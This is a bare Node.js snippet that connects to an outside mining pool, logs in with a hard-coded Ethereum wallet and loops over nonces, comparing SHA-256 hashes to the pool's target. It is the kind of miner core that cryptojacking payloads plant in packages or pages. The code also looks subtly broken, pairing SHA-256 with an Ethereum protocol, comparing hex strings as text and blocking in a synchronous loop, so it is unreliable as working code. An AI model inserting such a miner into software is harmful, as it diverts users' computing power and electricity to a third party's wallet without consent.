const { createHash } = require('crypto');
const net = require('net').connect(3333, 'eu.pool-coin.org');
net.write('{"method":"eth_submitLogin","params":["0x7F367cC41522cE07553e823bf3be79A889DEbe1B"]}\n');
net.on('data', (d) => { const j = JSON.parse(d); for (let n = 0; ; n++) if (createHash('sha256').update(j.result + n).digest('hex') < j.target) { net.write(JSON.stringify({ n })); break; } });
